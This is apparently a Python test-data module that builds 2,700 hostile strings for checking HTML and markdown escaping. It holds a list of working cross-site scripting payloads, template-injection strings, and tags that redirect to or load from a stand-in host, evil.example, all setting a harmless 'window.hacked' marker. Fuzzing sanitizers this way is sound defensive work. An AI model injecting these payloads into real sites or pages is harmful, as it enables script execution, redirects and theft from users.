"""Texts that want to get out of a page: scripts, SVG, CSS, URL schemes, ends of elements, directions."""

from collections.abc import Callable, Iterator
from itertools import islice, product
from typing import Final

NUMBER: Final = 2_700
# Sets a mark that a browser's test looks for.
_RUN: Final = "window.hacked=1"
_PAYLOADS: Final = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onpageshow={_RUN}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<form action='https://evil.example/'><button>x",
    "<template><p>x</template>",
    "<plaintext>",
    "<textarea>",
    "<!--",
    "-->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{0.__class__} %s %(x)s {x!r}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "&#x3c;script&#x3e;&#60;b&#62;&amp;&nbsp;&NotAnEntity;",
    "red;}</style><script>x</script>",
    "url(javascript:x)",
    "\u202ereversed\u202c \u2066isolated\u2069",
    "\ufeff\u200b\u2028\u2029\x85",
    "\u0000\u0008\u001b[31m",
    "\ud800 lone",
    "a\u0301" * 30 + "\u0e33" * 10,
    "حديقة " * 5 + "<b>",
    f"[x](javascript:{_RUN}) ![x](https://evil.example/x.png) <https://evil.example>",
    f"[x](data:text/html;base64,x) [y]: javascript:{_RUN}",
    f"[a](https://a.example/\"onmouseover=\"{_RUN}) [b](<https://b.example/ onclick=x>)",
    "`</code><script>x</script>`\n```html\n<script>\n```\n<div>\n\n# h\n|a|b|\n|-|-|",
    "1. a\n   - b\n      * c <script>\n\n> quote\n\n***",
)  # fmt: skip
_BEFORE: Final = (
    "", '"', "'", "`", '">', "'>", "</title>", "</style>", "</script>", "</b></a></li></ul></main>",
    "-->", "]]>", '" onmouseover="', " style=x ",
)  # fmt: skip
_AFTER: Final = ("", '"', "'", "<", "<!--", "\\")
_CASES: Final[tuple[Callable[[str], str], ...]] = (str, str.upper, str.title)


def hostile_texts() -> Iterator[str]:
    """Yield NUMBER different texts."""
    combinations = product(_CASES, _AFTER, _BEFORE, _PAYLOADS)
    texts = dict.fromkeys(before + case(text) + after for case, after, before, text in combinations)
    yield from islice(texts, NUMBER)
